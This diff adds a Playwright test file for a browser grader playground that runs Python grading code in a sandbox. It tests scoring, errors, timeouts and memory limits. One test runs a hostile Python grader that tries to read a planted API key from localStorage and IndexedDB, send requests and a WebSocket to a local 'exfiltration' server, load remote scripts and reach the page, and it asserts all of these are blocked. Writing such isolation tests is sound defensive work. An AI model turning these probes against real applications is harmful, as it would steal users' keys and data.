@@ -1,0 +1,175 @@
+import { expect, test, type Page } from '@playwright/test';
+import { createHash } from 'node:crypto';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { flags, openApp, setDoc } from './helpers.ts';
+
+const pythonGrader = (source: string) => ({ type: 'python', name: 'p', source });
+
+/** A local HTTP + WebSocket server that records every request it gets (the hostile grader's target). */
+async function witnessServer(): Promise<{ server: Server; port: number; hits: string[] }> {
+  const hits: string[] = [];
+  const server = createServer((req, res) => {
+    hits.push(`http ${req.url}`);
+    res.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('secret-exfiltration-endpoint');
+  });
+  server.on('upgrade', (req, socket) => {
+    hits.push(`websocket ${req.url}`);
+    const accept = createHash('sha1').update(`${req.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest('base64');
+    socket.write(`HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`);
+  });
+  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
+  return { server, port: (server.address() as AddressInfo).port, hits };
+}
+
+async function grade(page: Page, source: string, timeout = 90_000) {
+  await setDoc(page, 'grader', pythonGrader(source));
+  // Wait for the result of this source (the python explanation or a python error flag).
+  await expect(page.getByTestId('run-state')).toHaveAttribute('data-state', 'done', { timeout });
+  await expect
+    .poll(async () => (await page.getByTestId('explain').getAttribute('data-kind')) ?? '', { timeout })
+    .toBe('python');
+}
+
+test.describe('python graders', () => {
+  test.describe.configure({ timeout: 180_000 });
+
+  test('a python grader scores in the sandbox, with stdout shown and a loading state', async ({ page }) => {
+    await openApp(page);
+    await setDoc(page, 'sample', { output_text: 'Paris' });
+    // Typed as text: JSON.stringify would drop the ".0" that makes weight a float.
+    await setDoc(page, 'item', '{"answer": "paris", "weight": 1.0, "count": 2}');
+    await setDoc(
+      page,
+      'grader',
+      pythonGrader(
+        'def grade(sample, item):\n    print("types:", type(item["weight"]).__name__, type(item["count"]).__name__)\n    return sample["output_text"].lower() == item["answer"]\n',
+      ),
+    );
+    await expect(page.getByTestId('loading-python')).toBeVisible();
+    await expect(page.getByTestId('python-return')).toHaveText('True', { timeout: 90_000 });
+    await expect(page.getByTestId('reward')).toHaveAttribute('data-value', '1');
+    await expect(page.getByTestId('python-stdout')).toHaveText('types: float int\n');
+  });
+
+  test('an exception gives reward 0 with the traceback at the user line', async ({ page }) => {
+    await openApp(page);
+    await grade(page, 'def grade(sample, item):\n    x = 1\n    return item["missing"]\n');
+    await expect.poll(() => flags(page)).toEqual(['python_grader_runtime_error']);
+    await expect(page.getByTestId('error-details')).toContainText('line 3');
+    await expect(page.getByTestId('error-details')).toContainText("KeyError: 'missing'");
+    await expect(page.getByTestId('reward')).toHaveAttribute('data-value', '0');
+  });
+
+  test('a runaway grader is stopped without freezing the page, and the next run works', async ({ page }) => {
+    await openApp(page);
+    await page.getByTestId('settings-button').click();
+    await page.getByTestId('setting-liveTimeout').fill('3');
+    await grade(page, 'def grade(sample, item):\n    return 1.0\n');
+    await setDoc(page, 'grader', pythonGrader('def grade(sample, item):\n    while True:\n        pass\n'));
+    // The page stays responsive while the loop runs.
+    await expect(page.getByTestId('run-state')).toHaveAttribute('data-state', 'running');
+    const t0 = Date.now();
+    await page.evaluate(() => new Promise((r) => setTimeout(r, 50)));
+    expect(Date.now() - t0).toBeLessThan(1000);
+    await expect.poll(() => flags(page), { timeout: 30_000 }).toEqual(['python_grader_server_error']);
+    await expect(page.getByTestId('errors')).toContainText('type: timeout');
+    await grade(page, 'def grade(sample, item):\n    return 0.25\n');
+    await expect(page.getByTestId('reward')).toHaveAttribute('data-value', '0.25');
+  });
+
+  test('a 4 GB allocation is contained and the next run works', async ({ page }) => {
+    await openApp(page);
+    await grade(page, 'def grade(sample, item):\n    big = bytearray(4 * 1024 ** 3)\n    return 1.0\n');
+    await expect(page.getByTestId('reward')).toHaveAttribute('data-value', '0');
+    expect((await flags(page)).length).toBeGreaterThan(0);
+    await grade(page, 'def grade(sample, item):\n    return 0.5\n');
+    await expect(page.getByTestId('reward')).toHaveAttribute('data-value', '0.5');
+  });
+
+  test('hostile code cannot read app storage, reach the network or touch the page', async ({ page }) => {
+    await openApp(page);
+    await page.evaluate(async () => {
+      localStorage.setItem('openai-api-key', 'sk-secret');
+      await new Promise<void>((resolve, reject) => {
+        const req = indexedDB.open('grader-playground-secrets', 1);
+        req.onupgradeneeded = () => req.result.createObjectStore('keys');
+        req.onsuccess = () => {
+          const tx = req.result.transaction('keys', 'readwrite');
+          tx.objectStore('keys').put('sk-secret', 'openai');
+          tx.oncomplete = () => resolve();
+        };
+        req.onerror = () => reject(req.error);
+      });
+    });
+    const witness = await witnessServer();
+    try {
+      const target = `localhost:${witness.port}`;
+      // Control: from the app itself the server is reachable over HTTP and WebSocket.
+      const control = await page.evaluate(
+        (t) =>
+          new Promise<string>((resolve) => {
+            const ws = new WebSocket(`ws://${t}/control`);
+            ws.onopen = () => resolve('open');
+            ws.onerror = () => resolve('error');
+          }),
+        target,
+      );
+      expect(control).toBe('open');
+      expect(witness.hits).toEqual(['websocket /control']);
+      witness.hits.length = 0;
+
+      // Grades run synchronously, so the probes are synchronous (a synchronous XMLHttpRequest stands for any
+      // request: the same policy governs fetch); the WebSocket is kept for a second run to inspect.
+      const source = `
+import js
+
+def attempt(name, fn):
+    try:
+        value = fn()
+        return f"{name}: OPEN {str(value)[:40]}"
+    except BaseException as e:
+        return f"{name}: blocked ({type(e).__name__})"
+
+def xhr(url):
+    req = js.XMLHttpRequest.new()
+    req.open("GET", url, False)
+    req.send()
+    return req.responseText
+
+def websocket(url):
+    js.globalThis.probeSocket = js.WebSocket.new(url)
+    raise RuntimeError("connecting in the background; checked by the next run")
+
+def grade(sample, item):
+    results = [
+        attempt("localStorage", lambda: js.localStorage.getItem("openai-api-key")),
+        attempt("indexedDB", lambda: js.indexedDB.open("grader-playground-secrets")),
+        attempt("caches", lambda: js.caches.keys()),
+        attempt("request to another origin", lambda: xhr("http://${target}/xhr")),
+        attempt("websocket", lambda: websocket("ws://${target}/probe")),
+        attempt("importScripts", lambda: js.importScripts("http://${target}/import.js")),
+        attempt("document", lambda: js.document.title),
+        attempt("parent", lambda: js.parent.document.title),
+    ]
+    for r in results:
+        print(r)
+    return 1.0 if all("blocked" in r for r in results) else 0.0
+`;
+      await grade(page, source);
+      const stdout = await page.getByTestId('python-stdout').textContent();
+      expect(stdout).not.toContain('OPEN');
+      expect(stdout?.split('\n').filter((l) => l.includes('blocked'))).toHaveLength(8);
+      await expect(page.getByTestId('reward')).toHaveAttribute('data-value', '1');
+
+      // Give the socket time to connect if it could, then look at it from a second run.
+      await page.waitForTimeout(1500);
+      await grade(page, 'import js\n\ndef grade(sample, item):\n    return float(js.globalThis.probeSocket.readyState)\n');
+      await expect(page.getByTestId('reward')).toHaveAttribute('data-value', '3'); // CLOSED, never OPEN (1)
+      // The server never saw a request from the sandbox.
+      expect(witness.hits).toEqual([]);
+    } finally {
+      witness.server.close();
+    }
+  });
+});
